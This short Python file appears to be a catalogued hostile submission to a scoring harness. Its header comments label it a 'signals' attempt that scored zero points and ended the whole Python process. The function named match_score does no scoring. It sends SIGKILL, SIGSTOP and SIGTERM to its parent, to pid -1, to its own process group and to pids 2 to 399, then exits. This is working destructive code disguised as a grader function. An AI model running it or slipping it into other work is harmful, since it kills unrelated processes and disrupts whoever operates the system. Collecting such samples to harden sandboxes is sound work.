# family = "signals"
# tries = "kills its parent, its group, every process that it can name, and itself"
# points = 0
# says = "ended the whole Python process"
import os
import signal


def match_score(patch, filt):
    own = os.getpid()
    for pid in [os.getppid(), -1, -own, 0, *range(2, 400)]:
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            if pid not in (0, own):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    os._exit(0)
